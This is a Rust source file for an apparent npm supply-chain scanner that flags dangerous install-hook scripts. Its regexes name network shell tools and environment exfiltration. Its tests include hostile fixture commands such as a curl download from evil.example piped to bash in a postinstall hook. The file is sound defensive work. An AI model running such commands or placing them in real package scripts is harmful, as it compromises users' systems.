//! Lifecycle script analysis
//!
//! Install-time scripts are the classic supply-chain foothold: they run
//! with the user's privileges on `npm install`. This detector inspects a
//! package's declared scripts for download-and-execute and encoded-payload
//! constructs.

use std::sync::LazyLock;

use regex::Regex;

use crate::core::{PackageDescriptor, Severity, Threat, ThreatKind};

/// Scripts that execute automatically during install.
const INSTALL_HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

struct ScriptPattern {
    id: &'static str,
    regex: Regex,
    kind: ThreatKind,
}

static SCRIPT_PATTERNS: LazyLock<Vec<ScriptPattern>> = LazyLock::new(|| {
    #[allow(clippy::unwrap_used)] // static regex literals
    fn pattern(id: &'static str, kind: ThreatKind, source: &str) -> ScriptPattern {
        ScriptPattern {
            id,
            regex: Regex::new(source).unwrap(),
            kind,
        }
    }

    vec![
        pattern(
            "shell-download",
            ThreatKind::SuspiciousModule,
            r"(?:curl|wget)\s+(?:-[a-zA-Z]+\s+)*https?://",
        ),
        pattern(
            "pipe-to-shell",
            ThreatKind::CommandInjection,
            r"\|\s*(?:sh|bash|zsh)\b",
        ),
        pattern(
            "inline-node-eval",
            ThreatKind::SuspiciousModule,
            r#"node\s+(?:-e|--eval)\s+"#,
        ),
        pattern(
            "base64-decode-exec",
            ThreatKind::ObfuscatedCode,
            r"base64\s+(?:-d|--decode)",
        ),
        pattern(
            "powershell-encoded",
            ThreatKind::ObfuscatedCode,
            r"(?i)powershell[^\n]*-enc(?:odedcommand)?\s",
        ),
        pattern(
            "env-exfil-in-script",
            ThreatKind::SuspiciousModule,
            r"env\s*\|\s*(?:curl|wget|nc)\b",
        ),
    ]
});

/// Inspect a package's lifecycle scripts.
#[must_use]
pub fn analyze_scripts(package: &PackageDescriptor) -> Vec<Threat> {
    let mut threats = Vec::new();
    let manifest_path = package.path.join("package.json");

    for (hook, command) in &package.scripts {
        let install_time = INSTALL_HOOKS.contains(&hook.as_str());
        for pattern in SCRIPT_PATTERNS.iter() {
            if let Some(found) = pattern.regex.find(command) {
                let severity = if install_time {
                    Severity::Critical
                } else {
                    Severity::High
                };
                threats.push(
                    Threat::new(
                        pattern.kind.clone(),
                        severity,
                        format!("Dangerous construct in \"{hook}\" script"),
                        &manifest_path,
                    )
                    .with_confidence(if install_time { 0.9 } else { 0.75 })
                    .with_details(format!(
                        "Script \"{hook}\" matched {}: runs {} npm install",
                        pattern.id,
                        if install_time { "during" } else { "outside" },
                    ))
                    .with_sample(format!("{}...", truncate(found.as_str(), 60)))
                    .with_meta("script", serde_json::json!(hook))
                    .with_meta("package", serde_json::json!(package.key())),
                );
            }
        }
    }
    threats
}

fn truncate(s: &str, max: usize) -> &str {
    let mut end = max.min(s.len());
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;
    use std::path::PathBuf;

    fn package(scripts: &[(&str, &str)]) -> PackageDescriptor {
        PackageDescriptor {
            name: "suspect".to_string(),
            version: "1.0.0".to_string(),
            path: PathBuf::from("/project/node_modules/suspect"),
            declared_dependencies: HashMap::new(),
            scripts: scripts
                .iter()
                .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
                .collect(),
            repository_url: None,
        }
    }

    #[test]
    fn test_postinstall_download_is_critical() {
        let pkg = package(&[("postinstall", "curl -s https://evil.example/p.sh | bash")]);
        let threats = analyze_scripts(&pkg);
        assert!(!threats.is_empty());
        assert!(threats.iter().all(|t| t.severity == Severity::Critical));
        assert!(
            threats
                .iter()
                .any(|t| t.kind == ThreatKind::CommandInjection)
        );
    }

    #[test]
    fn test_non_install_hook_is_high() {
        let pkg = package(&[("build", "node -e \"require('./gen')\"")]);
        let threats = analyze_scripts(&pkg);
        assert_eq!(threats.len(), 1);
        assert_eq!(threats[0].severity, Severity::High);
    }

    #[test]
    fn test_ordinary_scripts_pass() {
        let pkg = package(&[
            ("build", "tsc -p tsconfig.json"),
            ("test", "jest --coverage"),
            ("lint", "eslint src"),
        ]);
        assert!(analyze_scripts(&pkg).is_empty());
    }

    #[test]
    fn test_threat_location_is_manifest() {
        let pkg = package(&[("preinstall", "wget https://x.example/a && base64 -d a")]);
        let threats = analyze_scripts(&pkg);
        assert!(threats.iter().all(|t| t.file_name == "package.json"));
    }
}
